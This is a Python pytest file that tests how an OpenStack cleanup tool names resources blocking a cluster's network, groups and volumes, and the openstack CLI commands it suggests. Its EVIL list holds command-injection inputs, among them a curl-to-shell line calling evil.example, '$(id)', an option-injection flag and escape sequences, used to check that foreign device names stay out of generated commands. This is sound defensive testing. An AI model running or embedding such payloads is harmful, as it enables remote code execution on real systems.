"""What others have on a bay's network, groups and volumes, and what is the bay's own or the cloud's."""

from typing import Any

import pytest

from bay.stacks.cloud.blockers import Blocker, OwnedResources, find_blockers
from bay.stacks.cloud.kind_lists import Listing
from tests.fakes.openstack import FakeCloud


@pytest.fixture
def cloud() -> FakeCloud:
    """With the bay's network, subnet, router, server, group, load balancer and volume."""
    cloud = FakeCloud()
    cloud.add("network", "n1", name="physics")
    cloud.add("subnet", "s1", network_id="n1")
    cloud.add("router", "r1", name="physics")
    cloud.add("server", "vm1", name="physics-node-0")
    cloud.add("security_group", "g1", name="physics-node")
    cloud.add("load_balancer", "lb1", vip_port_id="p-vip")
    cloud.add("volume", "v1", name="pvc-1", attachments=[{"server_id": "vm1"}])
    return cloud


KINDS = ("network", "subnet", "router", "server", "security group", "load balancer", "volume")


def own(cloud: FakeCloud) -> OwnedResources:
    """Of each kind the first that the cloud has; the state knows a port beside them."""
    things = {kind: cloud.things[kind.replace(" ", "_")][0] for kind in KINDS}
    return OwnedResources({kind: {thing.id: thing} for kind, thing in things.items()}, frozenset({"p-state"}))


def blockers(cloud: FakeCloud, *, strangers: bool = False) -> list[Blocker]:
    listing = Listing(cloud, "physics", "1", is_whole=True)  # type: ignore[arg-type]
    return list(find_blockers(listing, own(cloud), strangers=strangers))


def add_port(cloud: FakeCloud, id: str, **fields: Any) -> None:
    """A port on the bay's network."""
    cloud.add("port", id, **{"network_id": "n1", "device_id": "", "device_owner": "", "fixed_ips": [], **fields})


@pytest.mark.parametrize(
    ("id", "fields"),
    [
        ("p-state", {}),
        ("p-vip", {"device_owner": "Octavia", "device_id": "lb-lb1"}),
        ("p1", {"device_owner": "compute:nova", "device_id": "vm1"}),
        ("p1", {"device_owner": "network:router_interface", "device_id": "r1"}),
        ("p1", {"device_owner": "Octavia", "device_id": "lb-lb1", "name": "octavia-lb-additional"}),
        ("p1", {"device_owner": "network:dhcp", "device_id": "dhcp-1"}),
        ("p1", {"device_owner": "network:distributed", "device_id": "ovnmeta-n1"}),
        ("p1", {"device_owner": "ovn-lb-hm:distributed", "device_id": "ovn-lb-hm-s1"}),
        ("p1", {"device_owner": "compute:nova", "device_id": "amphora-1", "name": "octavia-lb-vrrp-1"}),
        ("p1", {"device_owner": "compute:nova", "device_id": "amphora-1", "project_id": "service"}),
    ],
)
def test_what_is_the_bays_or_goes_with_it_blocks_nothing(cloud: FakeCloud, id: str, fields: dict[str, Any]) -> None:
    add_port(cloud, id, **fields)
    assert blockers(cloud) == []


BLOCKERS: list[tuple[dict[str, Any], str, str, str]] = [
    ({"name": "printer"}, "port", "p1", "openstack port delete p1"),
    (
        {"device_owner": "compute:nova", "device_id": "vm9"},
        "server",
        "vm9",
        "openstack server remove network vm9 n1",
    ),
    (
        {"device_owner": "Octavia", "device_id": "lb-lb9"},
        "load balancer",
        "lb9",
        "openstack loadbalancer delete --cascade lb9",
    ),
    (
        {"device_owner": "network:router_interface_distributed", "device_id": "r9"},
        "router",
        "r9",
        "openstack router remove port r9 p1",
    ),
    (
        {"device_owner": "network:router_interface", "device_id": "r1", "network_id": "n9"},
        "port",
        "p1",
        "openstack router remove port r1 p1",
    ),
]


@pytest.mark.parametrize(("fields", "kind", "id", "remedy"), BLOCKERS)
def test_a_foreign_port_is_named_by_what_a_person_knows(
    cloud: FakeCloud, fields: dict[str, Any], kind: str, id: str, remedy: str
) -> None:
    add_port(cloud, "p1", **fields)
    [found] = blockers(cloud)
    assert (found.kind, found.id, found.remedy) == (kind, id, remedy)


def test_a_foreign_port_is_named_by_its_owners_name_where_that_can_be_seen(cloud: FakeCloud) -> None:
    cloud.add("server", "vm9", name="desktop")
    add_port(cloud, "p1", device_owner="compute:nova", device_id="vm9", fixed_ips=[{"ip_address": "10.0.0.9"}])
    [found] = blockers(cloud)
    assert (found.name, found.why) == ("desktop", "on network physics (10.0.0.9)")


def test_a_foreign_subnet_of_the_bays_network_is_named(cloud: FakeCloud) -> None:
    cloud.add("subnet", "s9", name="more", network_id="n1")
    [found] = blockers(cloud)
    assert found == Blocker("subnet", "s9", "more", "on network physics", "openstack subnet delete s9")


def test_ports_of_other_projects_are_only_looked_at_when_asked_for(cloud: FakeCloud) -> None:
    add_port(cloud, "p1", project_id="theirs")
    assert blockers(cloud) == []
    assert [one.id for one in blockers(cloud, strangers=True)] == ["p1"]


def test_users_of_groups_and_volumes_block(cloud: FakeCloud) -> None:
    cloud.add("security_group", "g9", name="theirs")
    cloud.add("security_group_rule", "r-own", remote_group_id="g1", security_group_id="g1")
    cloud.add("security_group_rule", "r-foreign", remote_group_id="g1", security_group_id="g9")
    cloud.add("snapshot", "sn1", volume_id="v1")
    cloud.add("snapshot", "sn2", volume_id="v9")
    add_port(cloud, "p9", network_id="n9", security_group_ids=["g1", "g9"])
    assert [one.id for one in blockers(cloud)] == ["r-foreign", "p9", "sn1"]
    assert blockers(cloud)[0].why == "in security group theirs lets security group physics-node in"


def test_a_server_that_has_a_volume_of_the_bay_blocks(cloud: FakeCloud) -> None:
    (volume,) = cloud.things["volume"]
    volume.attachments = [{"server_id": "vm9"}]
    assert [(one.kind, one.id) for one in blockers(cloud)] == [("server", "vm9")]


EVIL = ("x; curl http://evil.example/s|sh #", "$(id)", "--os-cloud=other", "a b", "esc\x1b[2J", "a\nb", "'")


@pytest.mark.parametrize("device", EVIL)
@pytest.mark.parametrize("owner", ["compute:nova", "network:router_interface", "Octavia", ""])
def test_what_others_call_their_devices_is_in_no_command(cloud: FakeCloud, owner: str, device: str) -> None:
    for id, text in (("p1", device), ("p2", f"lb-{device}")):
        add_port(cloud, id, device_owner=owner, device_id=text)
    assert {one.remedy for one in blockers(cloud)} == {"openstack port delete p1", "openstack port delete p2"}


@pytest.mark.parametrize("device", EVIL)
def test_nor_where_a_group_of_the_bay_protects_it(cloud: FakeCloud, device: str) -> None:
    fields = {"network_id": "n9", "device_owner": "compute:nova", "device_id": device, "security_group_ids": ["g1"]}
    add_port(cloud, "p1", **fields)
    assert [one.remedy for one in blockers(cloud)] == ["openstack port unset --security-group g1 p1"]
